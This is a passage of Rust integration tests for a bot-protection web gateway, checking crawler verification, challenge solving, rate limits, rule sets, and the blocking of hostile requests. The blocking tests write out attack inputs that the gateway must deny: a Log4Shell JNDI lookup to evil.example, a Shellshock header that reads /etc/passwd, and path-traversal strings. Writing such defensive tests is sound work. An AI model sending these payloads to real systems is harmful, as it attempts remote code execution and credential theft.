        std::thread::sleep(Duration::from_millis(20));
    }
}

/// A gateway whose trusted proxy is 127.0.0.2, with `extra` options and a protected
/// `shop.example`.
fn behind_proxy(origin: &Origin, extra: &[&str]) -> Gateway {
    let mut options = vec!["--trusted-proxy", "127.0.0.2/32"];
    options.extend_from_slice(extra);
    let gateway = gateway(origin.address.port(), &options);
    add_website(
        &gateway,
        json!({"domain": "shop.example", "ip": ["127.0.0.1"], "settings": loadbalancer(&["bot_protection"])}),
    )
    .unwrap();
    gateway
}

/// Sends `request` through the trusted proxy of [`behind_proxy`] as from `client`.
fn via_proxy(gateway: &Gateway, client: std::net::IpAddr, request: Outgoing<'_>) -> Answer {
    let through_proxy = Visit {
        source: Some([127, 0, 0, 2].into()),
        preamble: proxy_header(&format!("{client}:40000"), gateway.http),
        ..Visit::default()
    };
    visitor::send(gateway.http, &through_proxy, request).unwrap()
}

#[test]
fn crawler_claims_outside_the_networks_are_checked_by_reverse_dns() {
    use botgate_tests::servers::Dnsmasq;
    // Clients from documentation addresses, given by a trusted proxy (the resolver
    // answers loopback's reverse names itself, as RFC 6761 asks).
    let client = |last: u8| std::net::IpAddr::from([192, 0, 2, last]);
    let dns = Dnsmasq::start(
        &[
            ("crawl-9.crawl.example", client(9)),
            ("crawl-10.crawl.example", client(99)),
            ("bot.elsewhere.example", client(11)),
        ],
        &[
            // Claims a crawler's name, which does not resolve back to it.
            (client(10), "crawl-10.crawl.example"),
        ],
    )
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let list = dir.path().join("crawlers.json");
    std::fs::write(
        &list,
        r#"{"crawlers":[{"name":"testbot","kind":"search-engine","user_agent_tokens":["testbot"],
            "networks":[],"reverse_dns":["crawl.example"]}]}"#,
    )
    .unwrap();
    let origin = origin("site");
    let gateway = behind_proxy(
        &origin,
        &[
            "--crawler-list",
            &list.display().to_string(),
            "--dns-server",
            &dns.address.to_string(),
        ],
    );
    let ua = "Mozilla/5.0 (compatible; Testbot/1.0; +http://crawl.example/bot)";
    let visit = |last: u8, target: &str| {
        let request = with_ua("shop.example", target, ua);
        let answer = via_proxy(&gateway, client(last), request);
        (answer.status, access_line(&gateway, target))
    };
    for (last, target, status, category) in [
        (9, "/confirmed", 200, "search_engines"),
        (9, "/confirmed-again", 200, "search_engines"),
        (10, "/not-confirmed", 403, "suspicious_behaviour"),
        (11, "/foreign-name", 403, "suspicious_behaviour"),
        (12, "/no-name", 403, "suspicious_behaviour"),
    ] {
        let (got, line) = visit(last, target);
        assert_eq!(got, status, "{line}\n{}", dns.log());
        assert!(line.contains(&format!("category=\"{category}\"")), "{line}");
    }
    // The confirmed answer was kept: one PTR query for the address that came twice.
    let ptr_queries = dns
        .log()
        .lines()
        .filter(|l| l.contains("query[PTR] 9.2.0.192.in-addr.arpa"))
        .count();
    assert_eq!(ptr_queries, 1, "{}", dns.log());
}

/// Serves the file at `path` (read at each request) over plain HTTP on loopback.
fn serve_file(path: std::path::PathBuf) -> SocketAddr {
    use std::io::{BufRead, BufReader, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                line.clear();
            }
            let body = std::fs::read(&path).unwrap_or_default();
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(head.as_bytes());
            let _ = stream.write_all(&body);
        }
    });
    address
}

#[test]
fn crawler_lists_and_networks_come_from_urls_and_are_refreshed() {
    let dir = tempfile::tempdir().unwrap();
    let list = dir.path().join("crawlers.json");
    std::fs::write(
        &list,
        r#"{"crawlers":[{"name":"testbot","kind":"search-engine","user_agent_tokens":["testbot"]}]}"#,
    )
    .unwrap();
    let networks = dir.path().join("testbot.txt");
    std::fs::write(&networks, "# published\n192.0.2.0/24\n").unwrap();
    let list_url = format!("http://{}/crawlers.json", serve_file(list));
    let networks_url = format!(
        "testbot=http://{}/testbot.txt",
        serve_file(networks.clone())
    );
    let origin = origin("site");
    let gateway = behind_proxy(
        &origin,
        &[
            "--crawler-list",
            &list_url,
            "--crawler-networks",
            &networks_url,
            "--crawler-refresh-seconds",
            "1",
        ],
    );
    let category = |target: &str| {
        let request = with_ua("shop.example", target, "Testbot/1.0");
        via_proxy(&gateway, [192, 0, 2, 9].into(), request);
        let line = access_line(&gateway, target);
        line.split("category=\"")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .unwrap()
            .to_owned()
    };
    assert_eq!(category("/listed"), "search_engines");
    // The operator's network document changes; the next refresh takes it up.
    std::fs::write(&networks, "198.51.100.0/24\n").unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut attempt = 0;
    loop {
        attempt += 1;
        let seen = category(&format!("/after-change-{attempt}"));
        if seen == "suspicious_behaviour" {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "still {seen}:\n{}",
            gateway.log()
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    log_line(&gateway, |line| line.contains("crawler lists refreshed"));
}

/// Headless Chromium (Debian package `chromium`; scripts/test.sh installs it).
fn chromium() -> &'static str {
    ["/usr/bin/chromium", "/usr/bin/chromium-browser"]
        .into_iter()
        .find(|path| Path::new(path).exists())
        .unwrap_or("chromium")
}

#[test]
fn a_real_browser_solves_the_challenge_by_itself() {
    let origin = origin("site");
    let gateway = challenging_gateway(&origin, "browser.example");
    let profile = tempfile::tempdir().unwrap();
    let output = std::process::Command::new(chromium())
        .args([
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-extensions",
            // A current desktop Chrome, not "HeadlessChrome", which is a bot.
            "--user-agent=Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
            "--virtual-time-budget=30000",
            "--dump-dom",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg(format!(
            "--host-resolver-rules=MAP browser.example {}",
            gateway.http
        ))
        .arg("http://browser.example/welcome?from=browser")
        .output()
        .expect("running chromium (Debian package chromium; scripts/test.sh installs it)");
    let dom = String::from_utf8_lossy(&output.stdout);
    // The page the browser ends on is the origin's: it got through.
    assert!(
        dom.contains("/welcome?from=browser") && dom.contains("\"origin\":\"site\""),
        "the browser did not reach the origin:\n{}\n{}\n{}",
        dom.chars().take(2000).collect::<String>(),
        String::from_utf8_lossy(&output.stderr),
        gateway.log()
    );
    let log = gateway.log();
    let first = access_line(&gateway, "/welcome?from=browser");
    assert!(first.contains("status=200"), "{first}");
    assert!(
        log.lines()
            .any(|l| l.contains("botgate::access") && l.contains("action=\"challenge_solved\"")),
        "{log}"
    );
}

#[test]
fn payloads_behind_padding_or_past_the_header_bound_are_not_granted() {
    let origin = origin("site");
    let gateway = gateway(origin.address.port(), &["--max-headers", "200"]);
    add_website(
        &gateway,
        json!({"domain": "padded.example", "ip": ["127.0.0.1"], "settings": loadbalancer(&["bot_protection"])}),
    )
    .unwrap();
    let host = "padded.example";
    let payload = "${jndi:ldap://evil.example/a}";
    let filler_names: Vec<String> = (0..100).map(|i| format!("x-filler-{i}")).collect();
    let with_fillers = |count: usize, target: &'static str| {
        let mut request = Outgoing::get(host, target).browser();
        for name in &filler_names[..count] {
            request = request.header(name.as_str(), "ordinary");
        }
        request
    };
    // The payload alone, behind 2 KiB of padding, and in the 78th header: denied.
    for (request, what) in [
        (
            Outgoing::get(host, "/alone")
                .browser()
                .header("x-api", payload),
            "alone",
        ),
        (
            Outgoing::get(host, "/padded")
                .browser()
                .header("x-api", format!("{}{payload}", "a".repeat(2048))),
            "behind padding",
        ),
        (
            with_fillers(67, "/late").header("x-late", payload),
            "in the 78th header",
        ),
        (
            with_fillers(67, "/late-shell").header("x-late", "() { :; }; /bin/cat /etc/passwd"),
            "shellshock in the 78th header",
        ),
    ] {
        let answer = send(gateway.http, request).unwrap();
        assert_eq!(answer.status, 403, "{what}: {}", answer.text());
    }
    // Long benign headers are still granted: a 4 KiB cookie, 100 ordinary headers.
    let cookie = format!("session={}", "c".repeat(4096));
    let answer = send(
        gateway.http,
        Outgoing::get(host, "/cookie")
            .browser()
            .header("cookie", cookie),
    )
    .unwrap();
    assert_eq!(answer.status, 200, "{}", answer.text());
    // (The test origin, hyper, refuses over 100 headers itself: the gateway's verdict is
    // what counts.)
    send(gateway.http, with_fillers(100, "/many")).unwrap();
    let line = access_line(&gateway, "/many");
    assert!(line.contains("action=\"grant\""), "{line}");
}

#[test]
fn a_path_is_judged_as_the_origin_resolves_it() {
    let origin = origin("site");
    let gateway = gateway(origin.address.port(), &[]);
    let mut settings = loadbalancer(&["bot_protection"]);
    settings["rulesets"] = json!({"wordpress": true});
    add_website(
        &gateway,
        json!({"domain": "wp.example", "ip": ["127.0.0.1"], "settings": settings}),
    )
    .unwrap();
    let host = "wp.example";
    let status = |target: &str| {
        send(gateway.http, with_ua(host, target, "curl/8.5.0"))
            .unwrap()
            .status
    };
    assert_eq!(status("/wp-admin/install.php"), 403);
    for spelling in [
        "/wp-admin/./install.php",
        "/wp-admin/%2e/install.php",
        "/wp-admin/.%2Finstall.php",
        "/wp-admin//install.php",
        "/wp-admin%5Cinstall.php",
        "/wp-admin/x/../install.php",
    ] {
        assert_eq!(status(spelling), 403, "{spelling}");
    }
    // No single reading: refused before any rule or origin sees it.
    let served = origin.requests();
    for refused in [
        "/../etc/passwd",
        "/a/%2e%2e/%2e%2e/x",
        "/wp-login.php/..%5c",
        "/x/..;/wp-admin/install.php",
    ] {
        assert_eq!(status(refused), 400, "{refused}");
    }
    assert_eq!(origin.requests(), served);
}

#[test]
fn a_busy_website_challenges_newcomers_and_keeps_a_share_for_visitors_with_a_pass() {
    let origin = origin("site");
    let gateway = gateway(
        origin.address.port(),
        &[
            "--ddos-client-rate",
            "1",
            "--ddos-client-burst",
            "100",
            "--ddos-website-rate",
            "1",
            "--ddos-website-burst",
            "6",
            "--ddos-reserved-percent",
            "50",
            "--challenge-difficulty",
            "8",
        ],
    );
    add_website(
        &gateway,
        json!({"domain": "busy.example", "ip": ["127.0.0.1"], "settings": loadbalancer(&["ddos_protection"])}),
    )
    .unwrap();
    let host = "busy.example";
    let from = |last: u8, request: Outgoing<'_>| {
        let visit = Visit {
            source: Some(std::net::IpAddr::from([127, 0, 0, last])),
            ..Visit::default()
        };
        visitor::send(gateway.http, &visit, request).unwrap()
    };
    // The website's burst is used up by clients well within their own limits (the
    // readiness probe took one).
    let served = (40..45u8)
        .map(|last| from(last, Outgoing::get(host, "/").browser()).status)
        .collect::<Vec<_>>();
    assert_eq!(served, [200; 5]);
    // A newcomer is challenged, not refused.
    let page = from(46, Outgoing::get(host, "/").browser());
    assert_eq!(page.status, 403, "{}", page.text());
    let token = token_of(&page.text());
    assert_eq!(
        token.split('.').nth(2),
        Some("11"),
        "the work is harder while the website is busy"
    );
    let counter = solve(&token).unwrap().to_string();
    let solved = from(
        46,
        post_form(
            host,
            &[("token", &token), ("counter", &counter), ("return", "/")],
        ),
    );
    assert_eq!(solved.status, 303, "{}", solved.text());
    let cookie = pass_cookie(&solved);
    // With the pass it draws on the reserved share (half the burst), then waits.
    let with_pass = |last| {
        from(
            last,
            Outgoing::get(host, "/")
                .browser()
                .header("cookie", cookie.clone()),
        )
    };
    let statuses: Vec<u16> = (0..4).map(|_| with_pass(46).status).collect();
    assert_eq!(statuses, [200, 200, 200, 503], "{statuses:?}");
    assert!(with_pass(46).header("retry-after").is_some());
    // Nobody was answered 429: no client went over its own limit.
    assert!(!gateway.log().contains("status=429"));
}

#[test]
fn an_operators_own_rule_set_judges_the_websites_that_enable_it() {
    let origin = origin("site");
    let gateway = gateway(origin.address.port(), &[]);
    // A rule set of a name outside the specification's nine, hot-loaded.
    gateway.load_guest("template").unwrap();
    // A name no component has (a misspelling) protects nothing: refused.
    let mut settings = loadbalancer(&["bot_protection"]);
    settings["rulesets"] = json!({"templat": true});
    let _ = partner(&gateway).post_form("/v1.0/user", &[("id", "owner")]);
    let refused = partner(&gateway)
        .post_json(
            "/v1.0/website",
            &json!({"domain": "own.example", "user_id": "owner", "ip": ["127.0.0.1"],
                    "settings": settings}),
        )
        .unwrap();
    assert_eq!(refused.status, 422, "{refused:?}");
    assert!(
        refused.text.contains("settings.rulesets.templat"),
        "{refused:?}"
    );
    settings["rulesets"] = json!({"template": true});
    let view = add_website(
        &gateway,
        json!({"domain": "own.example", "ip": ["127.0.0.1"], "settings": settings}),
    )
    .unwrap();
    assert_eq!(view["settings"]["rulesets"]["template"], true, "{view}");
    add_website(
        &gateway,
        json!({"domain": "plain.example", "ip": ["127.0.0.1"], "settings": loadbalancer(&["bot_protection"])}),
    )
    .unwrap();

    // The template's monitor: services-and-payments, granted, where it is enabled...
    let monitor = |host| with_ua(host, "/health", "ExampleMonitor/1.0");
    let answer = send(gateway.http, monitor("own.example")).unwrap();
    assert_eq!(answer.status, 200, "{answer:?}");
    let line = log_line(&gateway, |line| {
        line.contains("botgate::access")
            && line.contains("website=\"own.example\"")
            && line.contains("target=/health ")
    });
    assert!(line.contains("decider=\"template\""), "{line}");
    assert!(
        line.contains("category=\"services_and_payments\""),
        "{line}"
    );
    // ...and not asked where it is not.
    send(gateway.http, monitor("plain.example")).unwrap();
    let line = log_line(&gateway, |line| {
        line.contains("botgate::access")
            && line.contains("website=\"plain.example\"")
            && line.contains("target=/health ")
    });
    assert!(!line.contains("decider=\"template\""), "{line}");

    // Switched off, it no longer judges the website, and is no longer shown.
    let view = update_settings(
        &gateway,
        "own.example",
        json!({"rulesets": {"template": false}}),
    );
    assert!(
        view["settings"]["rulesets"].get("template").is_none(),
        "{view}"
    );
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        send(
            gateway.http,
            with_ua("own.example", "/health?off", "ExampleMonitor/1.0"),
        )
        .unwrap();
        let line = access_line(&gateway, "/health?off");
        if !line.contains("decider=\"template\"") {
            break;
        }
        // The data plane learns of the change within a second.
        assert!(
            Instant::now() < deadline,
            "still judged by template: {line}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    // The always-on components are not the partner's to switch.
    let refused = partner(&gateway)
        .put_json(
            "/v1.0/website/own.example",
            &json!({"settings": {"rulesets": {"crs": false}}}),
        )
        .unwrap();
    assert_eq!(refused.status, 422, "{refused:?}");
    assert!(
        refused.text.contains("settings.rulesets.crs"),
        "{refused:?}"
    );
}
